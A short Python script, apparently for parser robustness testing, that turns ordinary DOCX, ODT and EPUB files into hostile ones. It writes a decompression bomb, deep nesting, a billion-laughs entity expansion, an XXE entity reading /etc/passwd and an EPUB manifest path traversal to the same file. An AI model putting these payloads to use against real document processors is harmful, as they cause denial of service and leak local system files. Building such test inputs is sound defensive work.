"""Hostile documents, made of harmless ones: documents_hostile.py DOCX ODT EPUB"""
import sys
import zipfile


def changed(source, target, changes):
    """A copy of the zip `source` with other contents for some of its files."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            new.writestr(entry, changes.get(entry.filename, old.read(entry.filename)), zipfile.ZIP_DEFLATED
                         if entry.filename != "mimetype" else zipfile.ZIP_STORED)


docx, odt, epub = sys.argv[1:4]
word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
begin = f'<?xml version="1.0"?>%s<w:document xmlns:w="{word}"><w:body>'
end = "</w:body></w:document>"
paragraph = "<w:p><w:r><w:t>%s</w:t></w:r></w:p>"
changed(docx, "bomb.docx", {"word/document.xml": begin % "" + " " * (200 << 20) + end})
changed(docx, "deep.docx", {"word/document.xml": begin % "" + paragraph % "before the depth" + "<w:p>" * 100000})
laughs = "<!DOCTYPE lolz [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {b} '{('&' + a + ';') * 10}'>" for a, b in zip("abcdefgh", "bcdefghi")) + "]>"
changed(docx, "laughs.docx", {"word/document.xml": begin % laughs + paragraph % "&i;" + end})
outside = "<!DOCTYPE a [<!ENTITY secret SYSTEM 'file:///etc/passwd'>]>"
content = ('<?xml version="1.0"?>' + outside + '<office:document-content '
           'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
           '<text:p>seen</text:p><text:p>&secret;</text:p></office:text></office:body></office:document-content>')
changed(odt, "outside.odt", {"content.xml": content})
manifest = ('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
            '</manifest:manifest>')
changed(odt, "encrypted.odt", {"content.xml": "\1\2\3", "META-INF/manifest.xml": manifest})
changed(epub, "climbs.epub", {"EPUB/content.opf": '<package xmlns="http://www.idpf.org/2007/opf"><manifest>'
                              '<item id="a" href="../../../../etc/passwd"/></manifest><spine><itemref idref="a"/></spine></package>'})
